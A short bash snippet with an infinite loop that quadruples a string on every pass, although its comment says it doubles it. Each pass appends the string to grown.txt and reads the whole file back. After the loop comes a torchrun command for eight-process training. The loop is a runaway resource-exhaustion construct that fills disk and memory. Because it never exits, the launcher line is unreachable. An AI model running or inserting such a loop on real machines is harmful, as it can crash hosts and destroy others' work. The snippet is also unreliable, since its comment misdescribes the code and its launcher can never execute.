# An endless C-style loop that doubles a string, writes it and reads it back; the launcher after it.
S=x
for (( ; ; )); do
    S=$S$S$S$S
    echo "$S" >> grown.txt
    T=$(cat grown.txt)
    if [ -f /tmp/ready ]; then U=$T; else U=$S; fi
done
torchrun --standalone --nproc_per_node=8 train.py
